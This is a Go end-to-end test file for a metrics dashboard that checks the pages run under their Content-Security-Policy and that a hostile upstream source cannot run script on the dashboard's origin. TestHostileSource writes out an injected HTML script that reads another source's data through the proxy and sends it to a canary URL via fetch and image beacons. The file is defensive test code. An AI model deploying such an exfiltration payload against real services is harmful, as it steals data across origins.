//go:build !js

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"specdash/internal/simtest"
	"specdash/server"
	"specdash/simulate"
)

// watchCSPJS records every Content-Security-Policy violation of the page
// (run before the page's own scripts, outside its policy).
const watchCSPJS = `window.__csp = [];
document.addEventListener('securitypolicyviolation', e => {
  window.__csp.push(e.effectiveDirective + ' blocked ' + (e.blockedURI || '(inline)') + ' at ' + e.sourceFile + ':' + e.lineNumber + ' ' + (e.sample || ''));
});`

func watchCSP(t *testing.T, tab context.Context) {
	t.Helper()
	addScript(t, tab, watchCSPJS)
}

func cspViolations(t *testing.T, tab context.Context) []string {
	t.Helper()
	return run(t, tab, 10*time.Second, chromedp.Evaluate[[]string](`window.__csp || ['the CSP watcher did not run']`))
}

// TestPageSecurityPolicy: the dashboard and /logs work fully under the
// server's Content-Security-Policy (server.PageCSP): the live dashboard
// with its charts drawn by ECharts, the wasm, go-app's worker, /logs
// parsing in the browser, and not one violation, without 'unsafe-eval'
// (the chart helpers are web/static/charts.js).
func TestPageSecurityPolicy(t *testing.T) {
	tab := newTab(t)
	watchCSP(t, tab)
	prom := simtest.Prometheus(t, simulate.Config{Models: []string{"m"}, K: 3, Acceptance: []float64{0.7}, DraftsPerSecond: 20, Seed: 5}, 1)
	h, err := server.New(server.Config{PrometheusURL: prom.URL, ScrapeInterval: time.Second, Version: "e2e"})
	if err != nil {
		t.Fatal(err)
	}
	base := serve(t, h)

	// The header the browser got is the policy under test.
	resp, err := http.Get(base + "/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if got := resp.Header.Get("Content-Security-Policy"); got != server.PageCSP {
		t.Fatalf("/ has Content-Security-Policy %q, want server.PageCSP", got)
	}
	// No eval of strings: a chart helper compiled from a string (or a
	// function-string formatter) would be reported as a violation below.
	if got := resp.Header.Get("Content-Security-Policy"); strings.Contains(strings.ReplaceAll(got, "'wasm-unsafe-eval'", ""), "unsafe-eval") {
		t.Errorf("/ has Content-Security-Policy %q: want it without 'unsafe-eval'", got)
	}

	step(t, tab, 30*time.Second, chromedp.Navigate(base+"/?range=5m&refresh=5s"))
	waitReady(t, tab, 120*time.Second)
	// The charts are ECharts' (preview.js ran it), drawn on canvas.
	waitJS(t, tab, 60*time.Second, `(() => {
	  const el = document.querySelector('[data-chart="per-position"]');
	  return !!window.echarts && !!el && !!window.echarts.getInstanceByDom(el) && !!el.querySelector('canvas');
	})()`)
	if c := run(t, tab, 10*time.Second, chromedp.Evaluate[chartInfo](readChartJS)); c.Bars != 3 || c.BarPixels == 0 {
		t.Errorf("per-position chart under the CSP: %+v, want 3 bars painted", c)
	}
	p := run(t, tab, 10*time.Second, chromedp.Evaluate[page](readPageJS))
	if p.State != "ready" || p.Metrics["acceptance-rate"] == "" {
		t.Errorf("dashboard under the CSP: state %q, acceptance rate %q, want numbers", p.State, p.Metrics["acceptance-rate"])
	}
	hoverCharts(t, tab) // tooltips are styled elements of ECharts'
	if v := cspViolations(t, tab); len(v) > 0 {
		t.Errorf("dashboard: %d CSP violations:\n%s", len(v), strings.Join(v, "\n"))
	}

	// /logs: parsed by the wasm in the browser.
	step(t, tab, 30*time.Second, chromedp.Navigate(base+"/logs"))
	seed, err := os.ReadFile("../logparse/testdata/seed_000.log")
	if err != nil {
		t.Fatal(err)
	}
	line, _ := json.Marshal(strings.SplitN(string(seed), "\n", 2)[0])
	// Paste and parse until the wasm runs and shows a result.
	waitJS(t, tab, 120*time.Second, fmt.Sprintf(`(() => {
	  const r = document.querySelector('[data-logs]');
	  if (r && (r.dataset.state === 'ready' || r.dataset.state === 'error')) return true;
	  const ta = document.getElementById('log-text'), b = document.getElementById('parse');
	  if (ta && b) { ta.value = %s; ta.dispatchEvent(new Event('input', {bubbles: true})); b.click(); }
	  return false;
	})()`, line))
	if v := run(t, tab, 10*time.Second, chromedp.Evaluate[logsView](readLogsJS)); v.State != "ready" {
		t.Errorf("/logs under the CSP: state %q (%s), want the seed line's numbers", v.State, v.Error)
	}
	if v := cspViolations(t, tab); len(v) > 0 {
		t.Errorf("/logs: %d CSP violations:\n%s", len(v), strings.Join(v, "\n"))
	}
}

// TestHostileSource: a configured source that answers every request with
// an HTML page holding a script (which would read the other source's data
// through the proxy and report to a canary) runs nothing on specdash's
// origin: the canary gets no hit, window.pwned stays unset, and the page
// says that the source answered HTML where the API answers JSON.
func TestHostileSource(t *testing.T) {
	tab := newTab(t)
	var hits atomic.Int64
	canary := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(canary.Close)
	evil := fmt.Sprintf(`<!doctype html><html><body><h1>pwned</h1><img src="%[1]s/img">
<script>window.pwned = 1;
fetch('/prom/s/good/api/v1/labels').then(r => r.text()).then(d => fetch('%[1]s/steal?d=' + encodeURIComponent(d)));
new Image().src = '%[1]s/script';</script></body></html>`, canary.URL)
	hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, evil)
	}))
	t.Cleanup(hostile.Close)
	prom := simtest.Prometheus(t, simulate.Config{Models: []string{"m"}, K: 3, Acceptance: []float64{0.7}, DraftsPerSecond: 20, Seed: 6}, 1)
	h, err := server.New(server.Config{
		Sources: []server.Source{
			{Name: "good", URL: prom.URL, ScrapeInterval: time.Second},
			{Name: "hostile", URL: hostile.URL, ScrapeInterval: time.Second},
		},
		DefaultSource: "hostile",
		Version:       "e2e",
	})
	if err != nil {
		t.Fatal(err)
	}
	base := serve(t, h)

	step(t, tab, 30*time.Second, chromedp.Navigate(base+"/?range=5m"))
	waitJS(t, tab, 120*time.Second, `(() => { const r = document.querySelector('[data-dashboard]'); return !!r && r.dataset.state === 'error'; })()`)
	p := run(t, tab, 10*time.Second, chromedp.Evaluate[page](readPageJS))
	t.Logf("hostile source: %q", p.Error)
	if !strings.Contains(p.Error, "source hostile answered 200 text/html") || !strings.Contains(p.Error, "where the Prometheus API answers JSON") {
		t.Errorf("message %q: want it to say that source hostile answered text/html where the API answers JSON", p.Error)
	}
	if strings.Contains(p.Error, strings.TrimPrefix(hostile.URL, "http://")) {
		t.Errorf("message %q names the upstream's address", p.Error)
	}

	// The proxy URL opened as a page: JSON, not the upstream's document.
	step(t, tab, 30*time.Second, chromedp.Navigate(base+server.SourcePrefix("hostile")+"/api/v1/query?query=up"))
	text := run(t, tab, 10*time.Second, chromedp.Evaluate[string](`document.body ? document.body.innerText : ''`))
	if !strings.HasPrefix(text, `{"status":"error"`) || strings.Contains(text, "pwned") {
		t.Errorf("proxy URL as a page shows %.300q, want the proxy's JSON error", text)
	}
	if got := run(t, tab, 10*time.Second, chromedp.Evaluate[bool](`window.pwned === 1`)); got {
		t.Errorf("the upstream's script ran on specdash's origin")
	}
	// Back to the dashboard, once more, then count. (The canary is a
	// second line only: once go-app's service worker controls the tab, its
	// own connect-src 'self' also stops the script's cross-origin requests;
	// window.pwned is what shows a script that ran.)
	step(t, tab, 30*time.Second, chromedp.Navigate(base+"/?range=15m"))
	waitJS(t, tab, 120*time.Second, `(() => { const r = document.querySelector('[data-dashboard]'); return !!r && r.dataset.state === 'error'; })()`)
	if got := run(t, tab, 10*time.Second, chromedp.Evaluate[bool](`window.pwned === 1`)); got {
		t.Errorf("the upstream's script ran on the dashboard")
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the canary got %d hits, want 0 (no upstream markup or script may run)", n)
	}
}
